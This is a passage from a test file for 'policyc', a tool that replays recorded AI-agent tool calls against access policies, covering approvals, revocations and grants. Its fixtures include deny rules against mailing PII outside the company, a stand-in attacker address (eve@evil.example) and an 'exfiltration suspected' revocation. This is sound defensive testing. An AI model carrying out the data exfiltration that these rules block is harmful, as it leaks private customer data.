    expect((await test(DEMO_POLICY, "--replay", unknown, "--reporter", "tap", "--allow-empty")).stdout).toContain(":1 request the policy set does not know");
  });

  it("--replay missing: exit 2", async () => {
    const result = await test(DEMO_POLICY);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("--replay");
    expectNoStackTrace(result);
  });

  it("no policy paths: exit 2", async () => {
    const result = await test("--replay", FULL);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("give policy paths");
  });

  it("--json with another --reporter: exit 2, naming both", async () => {
    const result = await test(DEMO_POLICY, "--replay", FULL, "--json", "--reporter", "junit");
    expect(result).toEqual({ code: 2, stdout: "", stderr: "policyc test: --reporter junit and --json both write to standard output: give one of them, or all but one a file (`--reporter json=FILE`)\n" });
    expect((await test(DEMO_POLICY, "--replay", FULL, "--json", "--reporter", "json")).code).toBe(0);
  });

  it("an unknown reporter: exit 2", async () => {
    const result = await test(DEMO_POLICY, "--replay", FULL, "--reporter", "xml");
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("unknown reporter `xml`");
    expectNoStackTrace(result);
  });

  it("--jobs that is not a thread count: exit 2", async () => {
    for (const jobs of ["0", "two", "1.5", "65"]) {
      const result = await test(DEMO_POLICY, "--replay", FULL, "--jobs", jobs);
      expect(result.code, jobs).toBe(2);
      expect(result.stderr).toContain(`--jobs takes a number of threads from 1 to 64, not \`${jobs}\``);
      expectNoStackTrace(result);
    }
  });

  it("an empty --replay path (an unset shell variable) is not the working folder: exit 2", async () => {
    const result = await test(DEMO_POLICY, "--replay", "");
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("error[PC600]: an empty path (an unset variable?; `.` names this folder)\n");
  });

  it("a folder with no .jsonl: exit 2", async () => {
    mkdirSync(join(dir, "empty-folder"), { recursive: true });
    write("empty-folder/readme.txt", "nothing here");
    const result = await test(DEMO_POLICY, "--replay", join(dir, "empty-folder"));
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(join(dir, "empty-folder") + ": error[PC600]: a folder without .jsonl or .ndjson files\n");
  });

  it("a glob that matches nothing: exit 2", async () => {
    const result = await test(DEMO_POLICY, "--replay", "test/fixtures/replay/nothing-*.jsonl");
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("test/fixtures/replay/nothing-*.jsonl: error[PC600]: nothing matches\n");
  });

  it("a policy that does not exist: exit 2; a policy with errors: exit 1", async () => {
    expect((await test(join(dir, "nope.policy"), "--replay", FULL)).code).toBe(2);
    const broken = write("broken.policy", "policy p {\n  allow nothing.here\n}\n");
    expect((await test(broken, "--replay", FULL)).code).toBe(1);
  });
});

describe("policyc test: a recorded ask that a person approved", () => {
  it('a line with "approved": true lets the call\'s tool and data join the session, as they did in production', async () => {
    const policy = write(
      "approved/ask.policy",
      [
        "enum Label { pii }",
        "tool crm.lookup { risk low returns pii args { id: string } }",
        "tool email.send { risk high args { to: list<string> } }",
        "policy p {",
        '  @name("ask-lookup") ask crm.lookup',
        '  @name("pii-stays-inside") deny email.send when session.labels contains pii and any(r in args.to: not (r like "*@acme.com"))',
        '  @name("mail") allow email.send',
        "}",
        "",
      ].join("\n"),
    );
    const line = (fields: Record<string, unknown>): string => JSON.stringify({ session: "s", ...fields });
    const lookup = { tool: "crm.lookup", args: { id: "1" }, decision: "ask" };
    const mail = { tool: "email.send", args: { to: ["eve@evil.example"] } };
    const approved = write("approved/approved.jsonl", [line({ ...lookup, approved: true }), line({ ...mail, decision: "deny", rules: ["pii-stays-inside"] })].join("\n") + "\n");
    expect((await test(policy, "--replay", approved)).code).toBe(0);
    const notApproved = write("approved/not-approved.jsonl", [line(lookup), line({ ...mail, decision: "allow", rules: ["mail"] })].join("\n") + "\n");
    expect((await test(policy, "--replay", notApproved)).code).toBe(0);
    // The same lines with the approval forgotten fail: the taint is what the approval carries.
    const forgotten = write("approved/forgotten.jsonl", [line(lookup), line({ ...mail, decision: "deny", rules: ["pii-stays-inside"] })].join("\n") + "\n");
    const result = await test(policy, "--replay", forgotten);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("✗ line 2: email.send");
    // The because line shows the set the membership test read: the session was never tainted.
    expect(result.stdout).toContain("        because the expected rule pii-stays-inside (deny) did not match: `session.labels contains pii` was false (session.labels is [])\n");
  });

  const ASKING = [
    "enum Label { pii }",
    "tool crm.lookup { risk low returns pii args { id: string } }",
    "tool email.send { risk high args { to: list<string> } }",
    "policy p {",
    '  @name("ask-lookup") ask crm.lookup',
    '  @name("pii-stays-inside") deny email.send when session.labels contains pii',
    '  @name("mail") allow email.send',
    "}",
    "",
  ].join("\n");
  const line = (fields: Record<string, unknown>): string => JSON.stringify({ session: "s", time: "2026-01-05T09:00:00Z", ...fields });
  const mail = { tool: "email.send", args: { to: ["eve@evil.example"] } };

  it('an "approved": true the engine refuses fails its line, saying why, as an approval line production accepted does', async () => {
    const policy = write("approved/refused.policy", ASKING);
    // 256 asks awaiting approval fill the session; the 257th, approved in production, cannot be here.
    const asks = Array.from({ length: 257 }, (_, i) => line({ tool: "crm.lookup", args: { id: String(i) }, decision: "ask", rules: ["ask-lookup"], ...(i === 256 ? { approved: true } : {}) }));
    const recording = write("approved/refused.jsonl", [...asks, line({ ...mail, decision: "deny", rules: ["pii-stays-inside"] })].join("\n") + "\n");
    const result = await test(policy, "--replay", recording);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('    ✗ line 257: approval of crm.lookup id="256"\n        expected approved\n        actual   refused: session "s" has no ask awaiting approval for this crm.lookup call');
    expect(result.stdout).toContain("more asks awaiting approval than the engine keeps (256 calls)");
    expect(lastLine(result.stdout)).toBe("256 passed, 2 failed");
  });

  it("a failure shows under expected what the line recorded, never the reason the policy now gives a rule of that id", async () => {
    const denying = write("approved/denying-reason.policy", ASKING.replace('@name("ask-lookup") ask crm.lookup', '@name("ask-lookup") deny crm.lookup reason "no crm"'));
    const recording = write("approved/expected.jsonl", line({ tool: "crm.lookup", args: { id: "1" }, decision: "ask", rules: ["ask-lookup"] }) + "\n");
    const result = await test(denying, "--replay", recording);
    expect(result.stdout).toContain('    ✗ line 1: crm.lookup id="1"\n        expected ask [ask-lookup]\n        actual   deny [ask-lookup]\n          ask-lookup: no crm\n');
  });

  it('"approved": true replays only on a line that records "decision": "ask"; --update drops it from a line it rewrites to another decision', async () => {
    const policy = write("approved/asking.policy", ASKING);
    const denying = write("approved/denying.policy", ASKING.replace("ask crm.lookup", "deny crm.lookup"));
    const lookup = { tool: "crm.lookup", args: { id: "1" } };
    // A line that records a deny approved nothing in production, whatever it says.
    const stale = write("approved/stale.jsonl", [line({ ...lookup, decision: "deny", rules: ["ask-lookup"], approved: true }), line({ ...mail, decision: "allow", rules: ["mail"] })].join("\n") + "\n");
    const staleRun = await test(policy, "--replay", stale);
    expect(staleRun.stdout).toContain("✗ line 1: crm.lookup");
    expect(staleRun.stdout).not.toContain("✗ line 2");
    const copy = write("approved/update.jsonl", [line({ approved: true, ...lookup, decision: "ask", rules: ["ask-lookup"] }), line({ ...lookup, args: { id: "2" }, decision: "ask", rules: ["ask-lookup"], approved: true })].join("\n") + "\n");
    expect((await test(denying, "--replay", copy, "--update")).code).toBe(0);
    expect(lines(readFileSync(copy, "utf8"))).toEqual([
      '{"session":"s","time":"2026-01-05T09:00:00Z","tool":"crm.lookup","args":{"id":"1"},"decision":"deny","rules":["ask-lookup"]}',
      '{"session":"s","time":"2026-01-05T09:00:00Z","tool":"crm.lookup","args":{"id":"2"},"decision":"deny","rules":["ask-lookup"]}',
    ]);
  });
});

describe("policyc test: approval lines (`\"event\": \"approval\"`)", () => {
  // Line 1 asks; line 3, of the same session, is decided while the ask waits; line 4 is the
  // approval, line 5 sees its data; line 6 approves in a session with no ask awaiting (fails);
  // line 7 approves line 1's ask again, refused as in production.
  const POLICY = "test/fixtures/replay/approvals.policy";
  const RECORDING = "test/fixtures/replay/approvals.jsonl";
  const REPORTERS = ["pretty", "json", "junit", "tap", "github"];

  it("replay the approval at its place, and a refused approval fails as a case saying why, in every reporter (goldens); exit 1", () => {
    const results = REPORTERS.map((reporter) => bin(["test", POLICY, "--replay", RECORDING, "--reporter", reporter, "--coverage"]));
    expectGolden("test-approvals", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(1);
      expect(result.stderr, REPORTERS[i]).toBe("");
    }
    const [pretty, json] = results.map((result) => result.stdout);
    expect(pretty).toContain('    ✗ line 6: approval of crm.lookup id="7"\n        expected approved\n        actual   refused: session "s2" has no ask awaiting approval for crm.lookup');
    const report = JSON.parse(json!) as { passed: number; failed: number; lines: number; cases: { line: number; event?: string }[] };
    expect([report.passed, report.failed, report.lines]).toEqual([6, 1, 7]);
    expect(report.cases.filter((c) => c.event === "approval").map((c) => c.line)).toEqual([4, 6, 7]);
  });

  it("the same approval on the ask's line (the older form) comes too early for the call decided meanwhile: exit 1 at line 3", async () => {
    const recording = lines(readFileSync(join(ROOT, RECORDING), "utf8"));
    const early = write("approvals/early.jsonl", [recording[0]!.replace(/}$/, ',"approved":true}'), ...recording.slice(1, 3), ...recording.slice(4, 5)].join("\n") + "\n");
    const result = await test(POLICY, "--replay", early);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("✗ line 3: email.send");
    expect(lastLine(result.stdout)).toBe("3 passed, 1 failed");
  });

  it("--session, --grep and --bail take approval lines as cases of their session and tool", async () => {
    expect(lastLine((await test(POLICY, "--replay", RECORDING, "--session", "s1")).stdout)).toBe("5 passed, 0 failed");
    const s2 = await test(POLICY, "--replay", RECORDING, "--session", "s2");
    expect([s2.code, lastLine(s2.stdout)]).toEqual([1, "1 passed, 1 failed"]);
    const grep = await test(POLICY, "--replay", RECORDING, "--grep", "crm", "--reporter", "tap");
    expect(lines(grep.stdout).filter((l) => /^(not )?ok /.test(l)).map((l) => l.replace(/ - .*:(\d+) /, " $1 "))).toEqual(["ok 1 1 crm.lookup id=\"42\"", "ok 2 4 approval of crm.lookup id=\"42\"", "not ok 3 6 approval of crm.lookup id=\"7\"", "ok 4 7 approval of crm.lookup id=\"42\""]);
    const bail = await test(POLICY, "--replay", RECORDING, "--bail");
    expect([bail.code, lastLine(bail.stdout)]).toEqual([1, "5 passed, 1 failed"]);
    expect(bail.stdout).toContain("6 lines replayed from 1 file");
  });

  it("--update sets a failed approval line's `approved` (never a decision), so the recording replays", async () => {
    const copy = write("approvals/update.jsonl", readFileSync(join(ROOT, RECORDING), "utf8"));
    const before = lines(readFileSync(copy, "utf8"));
    const result = await test(POLICY, "--replay", copy, "--update");
    expect(result.code).toBe(0);
    const after = lines(readFileSync(copy, "utf8"));
    expect(after.filter((line, i) => line !== before[i])).toEqual([before[5]!.replace('"approved":true', '"approved":false')]);
    expect((await test(POLICY, "--replay", copy)).code).toBe(0);
  });

  it("malformed approval lines are errors that say what to write (golden): exit 2", () => {
    const result = bin(["test", POLICY, "--replay", "test/fixtures/replay/approvals-malformed.jsonl"]);
    expect(result.stderr).toBe("");
    expectGolden("test-approvals-malformed", runText(result));
    expect(result.code).toBe(2);
  });

  it("policyc diff applies them on both sides, and counts no approval as a decision", async () => {
    const same = await cli(["diff", POLICY, POLICY, "--replay", RECORDING]);
    expect([same.code, same.stdout]).toEqual([0, "0 of 4 decisions change\n"]);
    const allowing = write("approvals/allowing.policy", readFileSync(join(ROOT, POLICY), "utf8").replace("ask crm.lookup", "allow crm.lookup"));
    const changed = await cli(["diff", POLICY, allowing, "--replay", RECORDING]);
    expect(changed.code).toBe(0);
    // Allowed at once, the lookup's data is in the session when line 3 is decided.
    expect(lastLine(changed.stdout)).toBe("2 of 4 decisions change: allow→deny 1, ask→allow 1");
  });

  it("policyc eval: history lines set up the session, approval lines among them; an approval cannot be the request to decide", async () => {
    const recording = lines(readFileSync(join(ROOT, RECORDING), "utf8")).map((line) => JSON.parse(line) as Record<string, unknown>);
    const request = (fields: Record<string, unknown>): string => JSON.stringify(fields);
    const mail = { ...recording[4]!, decision: undefined, rules: undefined };
    const history = [...recording.slice(0, 4), mail].map(request).join("\n");
    const approvedFirst = await cli(["eval", POLICY, "--request", "-"], { stdin: history });
    expect([approvedFirst.code, decisionLine(approvedFirst.stdout)]).toEqual([0, "deny email.send (session s1)"]);
    // The history says the approval line brought the label the deny reads.
    expect(approvedFirst.stdout).toContain("  line 4, 2026-01-05T09:05:00Z: approval of crm.lookup: taken; adds label pii\n");
    expect(approvedFirst.stdout).toContain("(session.labels is [\"pii\"]: pii returned by crm.lookup at line 4)");
    const withoutApproval = await cli(["eval", POLICY, "--request", "-"], { stdin: [...recording.slice(0, 3), mail].map(request).join("\n") });
    expect(decisionLine(withoutApproval.stdout)).toBe("allow email.send (session s1)");
    const endsWithApproval = await cli(["eval", POLICY, "--request", "-"], { stdin: recording.slice(0, 4).map(request).join("\n") });
    expect([endsWithApproval.code, endsWithApproval.stderr]).toEqual([2, 'standard input:4: error[PC602]: it is an approval (`"event": "approval"`), and the last line is the request to decide and explain: end with it\n']);
    const malformed = await cli(["eval", POLICY, "--request", "-"], { stdin: [recording[0]!, { ...recording[3]!, decision: "allow" }, mail].map(request).join("\n") });
    expect(malformed.code).toBe(2);
    expect(malformed.stderr).toMatch(/^standard input:2: error\[PC602\]: an approval line \(`"event": "approval"`\) cannot have `decision`/);
    const single = await cli(["eval", POLICY, "--request", "-"], { stdin: request(recording[3]!) });
    expect([single.code, single.stderr]).toEqual([2, 'standard input: error[PC602]: it is an approval (`"event": "approval"`), not a request to decide: give the request to decide, after the lines that set up its session (JSON Lines)\n']);
  });
});

describe("policyc test: revocation lines (`\"event\": \"revocation\"`)", () => {
  // Line 3 revokes s1 (an operator's engine.revoke), so line 4 is denied; s2 goes on (5); line 6
  // revokes s1 again, which production said revoked and the replay says already-revoked (fails);
  // line 7 revokes s3 before its first attempt (8).
  const POLICY = "test/fixtures/replay/approvals.policy";
  const RECORDING = "test/fixtures/replay/revocations.jsonl";
  const REPORTERS = ["pretty", "json", "junit", "tap", "github"];

  it("replay the revocation at its place, and one whose outcome differs fails as a case saying expected and got, in every reporter (goldens); exit 1", () => {
    const results = REPORTERS.map((reporter) => bin(["test", POLICY, "--replay", RECORDING, "--reporter", reporter, "--coverage"]));
    expectGolden("test-revocations", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(1);
      expect(result.stderr, REPORTERS[i]).toBe("");
    }
    const [pretty, json] = results.map((result) => result.stdout);
    expect(pretty).toContain("    ✗ line 6: revocation of session s1\n        expected revoked\n        actual   already-revoked\n");
    const report = JSON.parse(json!) as { passed: number; failed: number; lines: number; cases: { line: number; event?: string }[] };
    expect([report.passed, report.failed, report.lines]).toEqual([7, 1, 8]);
    expect(report.cases.filter((c) => c.event === "revocation").map((c) => c.line)).toEqual([3, 6, 7]);
  });

  it("without the revocation line, the session's later line fails: exit 1 at line 3", async () => {
    const recording = lines(readFileSync(join(ROOT, RECORDING), "utf8"));
    const without = write("revocations/without.jsonl", [...recording.slice(0, 2), ...recording.slice(3, 5)].join("\n") + "\n");
    const result = await test(POLICY, "--replay", without);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("✗ line 3: kb.search");
  });

  it("--session selects a revocation with its session; --grep by its reason (it has no tool or rule), told to the engine either way", async () => {
    expect(lastLine((await test(POLICY, "--replay", RECORDING, "--session", "s2")).stdout)).toBe("2 passed, 0 failed");
    const s3 = await test(POLICY, "--replay", RECORDING, "--session", "s3");
    expect([s3.code, lastLine(s3.stdout)]).toEqual([0, "2 passed, 0 failed"]);
    const grep = await test(POLICY, "--replay", RECORDING, "--grep", "INC-4412", "--reporter", "tap");
    expect(lines(grep.stdout).filter((l) => /^(not )?ok /.test(l)).map((l) => l.replace(/ - .*:(\d+) /, " $1 "))).toEqual(["ok 1 7 revocation of session s3"]);
  });

  it("--update sets a failed revocation line's `outcome` (never a decision), so the recording replays", async () => {
    const copy = write("revocations/update.jsonl", readFileSync(join(ROOT, RECORDING), "utf8"));
    const before = lines(readFileSync(copy, "utf8"));
    const result = await test(POLICY, "--replay", copy, "--update");
    expect(result.code).toBe(0);
    const after = lines(readFileSync(copy, "utf8"));
    expect(after.filter((line, i) => line !== before[i])).toEqual([before[5]!.replace('"outcome":"revoked"', '"outcome":"already-revoked"')]);
    expect((await test(POLICY, "--replay", copy)).code).toBe(0);
  });

  it("malformed revocation lines are errors that say what to write (golden): exit 2", () => {
    const result = bin(["test", POLICY, "--replay", "test/fixtures/replay/revocations-malformed.jsonl"]);
    expect(result.stderr).toBe("");
    expectGolden("test-revocations-malformed", runText(result));
    expect(result.code).toBe(2);
  });

  it("policyc diff applies them on both sides, and counts no revocation as a decision", async () => {
    const same = await cli(["diff", POLICY, POLICY, "--replay", RECORDING]);
    expect([same.code, same.stdout]).toEqual([0, "0 of 5 decisions change\n"]);
    const denying = write("revocations/denying.policy", readFileSync(join(ROOT, POLICY), "utf8").replace("allow kb.search", "deny kb.search"));
    const changed = await cli(["diff", POLICY, denying, "--replay", RECORDING]);
    // Lines 1, 2 and 5 change; line 4, of the revoked session, is denied by both.
    expect(lastLine(changed.stdout)).toBe("3 of 5 decisions change: allow→deny 3");
  });

  it("policyc eval: a revocation line in the history revokes the session for the request explained; an outcome other than the engine's is noted; a revocation cannot be the request to decide", async () => {
    const recording = lines(readFileSync(join(ROOT, RECORDING), "utf8"));
    const search = '{"time":"2026-01-05T09:06:00Z","session":"s1","tool":"kb.search","args":{"query":"q"}}';
    const revoked = await cli(["eval", POLICY, "--request", "-"], { stdin: [...recording.slice(0, 3), search].join("\n") });
    expect([revoked.code, decisionLine(revoked.stdout), revoked.stderr]).toEqual([0, "deny kb.search (session s1)", ""]);
    expect(revoked.stdout).toContain('  line 3, 2026-01-05T09:01:00Z: revocation by an operator ("INC-4411: exfiltration suspected"): revoked\n');
    const withoutRevocation = await cli(["eval", POLICY, "--request", "-"], { stdin: [...recording.slice(0, 2), search].join("\n") });
    expect(decisionLine(withoutRevocation.stdout)).toBe("allow kb.search (session s1)");
    const differs = await cli(["eval", POLICY, "--request", "-"], { stdin: [...recording.slice(0, 6), search].join("\n") });
    expect(differs.stderr).toBe('policyc eval: note: standard input:6, a revocation: the history says engine.revoke returned "revoked", the engine returned "already-revoked"\n');
    const endsWithRevocation = await cli(["eval", POLICY, "--request", "-"], { stdin: recording.slice(0, 3).join("\n") });
    expect([endsWithRevocation.code, endsWithRevocation.stderr]).toEqual([2, 'standard input:3: error[PC602]: it is a revocation (`"event": "revocation"`), and the last line is the request to decide and explain: end with it\n']);
    const malformed = await cli(["eval", POLICY, "--request", "-"], { stdin: [recording[0]!, '{"event":"revocation","session":"s1"}', search].join("\n") });
    expect([malformed.code, malformed.stderr]).toEqual([2, 'standard input:2: error[PC602]: a revocation line (`"event": "revocation"`) needs `"reason"`: the reason passed to `engine.revoke(session, reason)`, which the session\'s later denials quote\n']);
    // Undated and first, with --revoked-session: revoked at the clock an undated attempt reads, as `policyc test` does.
    const undatedFirst = await cli(["eval", POLICY, "--revoked-session", "1h", "--request", "-"], { stdin: ['{"event":"revocation","session":"s1","reason":"INC-1","outcome":"revoked"}', search].join("\n") });
    expect([undatedFirst.code, decisionLine(undatedFirst.stdout), undatedFirst.stderr]).toEqual([0, "deny kb.search (session s1)", ""]);
    const single = await cli(["eval", POLICY, "--request", "-"], { stdin: recording[2]! });
    expect([single.code, single.stderr]).toEqual([2, 'standard input: error[PC602]: it is a revocation (`"event": "revocation"`), not a request to decide: give the request to decide, after the lines that set up its session (JSON Lines)\n']);
  });
});

describe("policyc test: expected grants and revocation (`grants`, `revoked`)", () => {
  // Line 2 lists the grants in another order than the engine (passes); line 3 expects a wider,
  // longer grant; line 6 expects no revocation where the deny revokes; line 7 differs in rules,
  // grants and revocation at once. Lines 4 and 5 pass.
  const POLICY = "test/fixtures/replay/grants.policy";
  const RECORDING = "test/fixtures/replay/grants.jsonl";
  const REPORTERS = ["pretty", "json", "junit", "tap", "github"];

  it("compares them with the decision, and every reporter shows a mismatch as expected vs actual (goldens): exit 1", () => {
    const results = REPORTERS.map((reporter) => bin(["test", POLICY, "--replay", RECORDING, "--reporter", reporter]));
    expectGolden("test-grants", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(1);
      expect(result.stderr, REPORTERS[i]).toBe("");
    }
    const [pretty, json, junit, tap, github] = results.map((result) => result.stdout);
    expect(pretty).toContain('    ✗ line 3: sql.query sql="select 1" row_limit=10 (the grants differ)\n        expected allow [read]; grants warehouse:* for 1d\n');
    expect(pretty).toContain("        actual   allow [read]; grants warehouse:read for 15m, warehouse:meta for 15m\n");
    expect(pretty).toContain("(the revocation differs)");
    expect(pretty).toContain("(the rules, grants and revocation differ)");
    const report = JSON.parse(json!) as { passed: number; failed: number; failures: { line: number; mismatches: string[]; expected: object }[] };
    expect([report.passed, report.failed]).toEqual([4, 3]);
    expect(report.failures.map((f) => [f.line, f.mismatches])).toEqual([
      [3, ["grants"]],
      [6, ["revoked"]],
      [7, ["rules", "grants", "revoked"]],
    ]);
    expect(report.failures[0]!.expected).toEqual({ decision: "allow", rules: ["read"], grants: [{ scope: "warehouse:*", ttlSeconds: 86400 }] });
    expect(junit).toContain('type="grants"');
    expect(tap).toContain('  actual: "deny [no-export-after-pii] (\\"query results with customer data stay in the warehouse\\"); grants none; session revoked"');
    expect(github).toContain("(the revocation differs)");
  });

  it("a line without them is compared as before: the same lines without `grants` and `revoked` pass", async () => {
    const stripped = lines(readFileSync(join(ROOT, RECORDING), "utf8"))
      .slice(0, 6)
      .map((line) => {
        const { grants: _g, revoked: _r, ...rest } = JSON.parse(line) as Record<string, unknown>;
        return JSON.stringify(rest);
      });
    const file = write("grants/stripped.jsonl", stripped.join("\n") + "\n");
    const result = await test(POLICY, "--replay", file);
    expect([result.code, lastLine(result.stdout)]).toEqual([0, "6 passed, 0 failed"]);
    // Coverage counts the cases that passed: stripped, all six; with them, lines 3 and 6 (whose grants
    // and revocation differ) cover nothing.
    const coverage = async (recording: string): Promise<number[]> => (JSON.parse((await test(POLICY, "--replay", recording, "--coverage", "--json")).stdout) as { coverage: { rules: { lines: number }[] } }).coverage.rules.map((rule) => rule.lines);
    const withThem = write("grants/first-six.jsonl", lines(readFileSync(join(ROOT, RECORDING), "utf8")).slice(0, 6).join("\n") + "\n");
    expect(await coverage(file)).toEqual([3, 1, 2]);
    expect(await coverage(withThem)).toEqual([2, 1, 1]);
  });

  it("malformed ones, and either without `decision`, are errors at their line that say what to write (golden): exit 2", () => {
    const result = bin(["test", POLICY, "--replay", "test/fixtures/replay/grants-malformed.jsonl"]);
    expect(result.stderr).toBe("");
    expectGolden("test-grants-malformed", runText(result));
    expect(result.code).toBe(2);
    expect(result.stdout).toContain("grants-malformed.jsonl:2: error[PC602]: `grants[0]` has no `ttlSeconds` (a grant is written as the decision lists it:");
    expect(result.stdout).toContain('grants-malformed.jsonl:1: error[PC602]: `revoked` must be true or false, not the string "yes"');
    expect(result.stdout).toContain("grants-malformed.jsonl:6: error[PC602]: the line has `grants` but no `decision`, so nothing on it would be checked");
    expect(result.stdout).toContain("grants-malformed.jsonl:9: error[PC602]: `revoke` looks like a misspelled `revoked`");
  });

  it("--update writes the actual grants and revoked into the failed lines that have them, and neither into a line without them", async () => {
    const copy = write("grants/update.jsonl", readFileSync(join(ROOT, RECORDING), "utf8") + '{"session":"s4","tool":"export.s3","args":{"bucket":"b"}}\n');
    const before = lines(readFileSync(copy, "utf8"));
    const result = await test(POLICY, "--replay", copy, "--update");
    expect(result.code).toBe(0);
    const after = lines(readFileSync(copy, "utf8"));
    expect(after.map((line, i) => (line === before[i] ? "same" : line))).toEqual([
      "same",
      "same",
      before[2]!.replace('[{"scope":"warehouse:*","ttlSeconds":86400}]', '[{"scope":"warehouse:read","ttlSeconds":900},{"scope":"warehouse:meta","ttlSeconds":900}]'),
      "same",
      "same",
      before[5]!.replace('"revoked":false', '"revoked":true'),
      before[6]!.replace('"rules":["read"],"grants":[],"revoked":true', '"rules":["export"],"grants":[{"scope":"s3:write","ttlSeconds":60}],"revoked":false'),
      before[7]!.replace(/}$/, ',"decision":"allow","rules":["export"]}'),
    ]);
    expect((await test(POLICY, "--replay", copy)).code).toBe(0);
  });

  it("policyc diff of the same recording is unaffected: no change", async () => {
    const result = await cli(["diff", POLICY, POLICY, "--replay", RECORDING, "--exit-code"]);
    expect(result.code, result.stdout + result.stderr).toBe(0);
  });
});

describe("policyc test: expected grants on approval (`grantsOnApproval`)", () => {
  // An ask's grants on approval are what a person's approval mints: line 2 expects a wider one,
  // line 3 none; an allow has none, so line 5 (expecting the allow's grants as on approval)
  // fails, and line 6 expects an ask where the engine allows. Lines 1, 4, 7 (a logged expiry
  // beside the grant) and 8 (`null`) pass.
  const POLICY = "test/fixtures/replay/grants-on-approval.policy";
  const RECORDING = "test/fixtures/replay/grants-on-approval.jsonl";
  const REPORTERS = ["pretty", "json", "junit", "tap", "github"];

  it("compares them with an ask's, and with none for an allow or a deny; every reporter shows a mismatch (goldens): exit 1", () => {
    const results = REPORTERS.map((reporter) => bin(["test", POLICY, "--replay", RECORDING, "--reporter", reporter]));
    expectGolden("test-grants-on-approval", results.map((result, i) => `=== --reporter ${REPORTERS[i]}\n${runText(result)}`).join("\n"));
    for (const [i, result] of results.entries()) {
      expect(result.code, REPORTERS[i]).toBe(1);
      expect(result.stderr, REPORTERS[i]).toBe("");
    }
    const [pretty, json, junit, tap, github] = results.map((result) => result.stdout);
    expect(pretty).toContain("    ✗ line 2: payments.send amount_cents=500000 (the grants on approval differ)\n        expected ask [pay-large-asks]; grants on approval payments:* for 1d\n");
    expect(pretty).toContain("        actual   ask [pay-large-asks]; grants on approval payments:write for 5m\n");
    expect(pretty).toContain("        actual   allow [pay]; grants on approval none\n");
    const report = JSON.parse(json!) as { passed: number; failed: number; failures: { line: number; mismatches: string[]; expected: object }[] };
    expect([report.passed, report.failed]).toEqual([4, 4]);
    expect(report.failures.map((f) => [f.line, f.mismatches])).toEqual([
      [2, ["grantsOnApproval"]],
      [3, ["grantsOnApproval"]],
      [5, ["grantsOnApproval"]],
      [6, ["decision", "grantsOnApproval"]],
    ]);
    expect(report.failures[0]!.expected).toEqual({ decision: "ask", rules: ["pay-large-asks"], grantsOnApproval: [{ scope: "payments:*", ttlSeconds: 86400 }] });
    expect(junit).toContain('type="grantsOnApproval"');
    expect(tap).toContain('  actual: "ask [pay-large-asks]; grants none; grants on approval payments:write for 5m; session not revoked"');
    expect(github).toContain("(the grants on approval differ)");
  });

  it("a line without them is compared as before: the same lines without `grantsOnApproval` pass but the one expecting an ask", async () => {
    const stripped = lines(readFileSync(join(ROOT, RECORDING), "utf8")).map((line) => {
      const { grantsOnApproval: _g, ...rest } = JSON.parse(line) as Record<string, unknown>;
      return JSON.stringify(rest);
    });
    const result = await test(POLICY, "--replay", write("grants-on-approval/stripped.jsonl", stripped.join("\n") + "\n"), "--json");
    expect((JSON.parse(result.stdout) as { failures: { line: number; mismatches: string[] }[] }).failures.map((f) => [f.line, f.mismatches])).toEqual([[6, ["decision"]]]);
  });

  it("malformed ones, one without `decision`, a misspelled one and one on an approval line are errors at their line (golden): exit 2", () => {
    const result = bin(["test", "test/fixtures/replay/grants.policy", "--replay", "test/fixtures/replay/grants-malformed.jsonl"]);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain("grants-malformed.jsonl:11: error[PC602]: `grantsOnApproval[0]` has no `ttlSeconds` (a grant is written as the decision lists it:");
    expect(result.stdout).toContain("grants-malformed.jsonl:12: error[PC602]: `grantsOnApproval` must be a list or null, not an object\n");
    expect(result.stdout).toContain("grants-malformed.jsonl:13: error[PC602]: the line has `grantsOnApproval` but no `decision`, so nothing on it would be checked");
    expect(result.stdout).toContain("grants-malformed.jsonl:14: error[PC602]: `grantOnApproval` looks like a misspelled `grantsOnApproval`");
    expect(result.stdout).toContain("grants-malformed.jsonl:15: error[PC602]: an approval line (`\"event\": \"approval\"`) cannot have `grantsOnApproval`");
  });

  it("--update writes the actual grants on approval into the failed lines that have them (none for an allow), and into no line without them", async () => {
    const copy = write("grants-on-approval/update.jsonl", readFileSync(join(ROOT, RECORDING), "utf8") + '{"session":"s9","tool":"payments.send","args":{"amount_cents":500000}}\n');
    const before = lines(readFileSync(copy, "utf8"));
    const result = await test(POLICY, "--replay", copy, "--update");
    expect(result.code).toBe(0);
    const after = lines(readFileSync(copy, "utf8"));
    const write5m = '[{"scope":"payments:write","ttlSeconds":300}]';
    expect(after.map((line, i) => (line === before[i] ? "same" : line))).toEqual([
      "same",
      before[1]!.replace('[{"scope":"payments:*","ttlSeconds":86400}]', write5m),
      before[2]!.replace('"grantsOnApproval":[]', `"grantsOnApproval":${write5m}`).replace(/}$/, ',"rules":["pay-large-asks"]}'),
      "same",
      before[4]!.replace(`"grantsOnApproval":${write5m}`, '"grantsOnApproval":[]'),
      before[5]!.replace('"decision":"ask"', '"decision":"allow"').replace(`"grantsOnApproval":${write5m}`, '"grantsOnApproval":[]').replace(/}$/, ',"rules":["pay"]}'),
      "same",
      "same",
      before[8]!.replace(/}$/, ',"decision":"ask","rules":["pay-large-asks"]}'),
    ]);
    expect((await test(POLICY, "--replay", copy)).code).toBe(0);
  });
});

describe("--session-idle: expire sessions as the enforcement point that recorded the traffic did", () => {
  const policy = (): string => write("idle/idle.policy", "tool kb.search { risk low args { query: string } }\npolicy p {\n  @name(\"kb\") allow kb.search\n}\n");
  const recording = (): string =>
    write(
      "idle/pause.jsonl",
      [
